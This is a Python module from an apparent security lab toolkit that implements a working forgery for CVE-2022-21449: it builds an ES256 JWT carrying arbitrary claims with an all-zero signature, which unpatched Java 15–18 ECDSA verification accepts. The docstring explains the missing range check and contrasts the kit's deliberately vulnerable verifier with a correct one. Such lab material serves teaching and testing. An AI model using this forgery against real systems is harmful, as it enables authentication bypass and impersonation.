"""Psychic signatures (CVE-2022-21449): an ES256 signature of zeros that proves anything.

ECDSA verification must refuse any signature whose ``r`` or ``s`` is outside
``1 .. n-1``. Java 15 to 18 did not, and with ``r = s = 0`` its arithmetic
produced 0 == r for every message and every public key, like the blank
"psychic paper" of Doctor Who that shows whatever its holder wants (Neil
Madden's name for the bug). ``forge`` needs no key and no earlier token: it
writes the claims and appends 64 zero bytes. ``labkit.vulnerable
.ecdsa_without_range_check`` accepts the result; ``labkit.verify`` refuses it.
"""

from __future__ import annotations

from typing import Any

from labkit import tokens
from labkit.attacks.forgery import Forgery
from labkit.errors import MalformedTokenError

__all__ = ["ZERO_SIGNATURE", "forge"]

ZERO_SIGNATURE = bytes(64)
"""r = 0 and s = 0, each as 32 big-endian bytes: the JWS form of an ES256 signature."""


def forge(claims: dict[str, Any], *, header: dict[str, Any] | None = None) -> Forgery:
    """An ES256 token for any ``claims`` whose signature is r = s = 0.

    ``header`` adds members to imitate (a ``kid``, say); its ``alg`` is
    replaced by ES256.
    """
    if not isinstance(claims, dict):
        raise MalformedTokenError(f"claims must be a dict, got {type(claims).__name__}")
    extra = {} if header is None else header
    if not isinstance(extra, dict):
        raise MalformedTokenError(f"a header must be a dict, got {type(extra).__name__}")
    head = {"alg": "ES256", "typ": "JWT", **{k: v for k, v in extra.items() if k != "alg"}}
    return Forgery(
        tokens.encode(head, claims, ZERO_SIGNATURE),
        "ES256 with r = s = 0: accepted wherever 0 < r, s < n goes unchecked",
    )
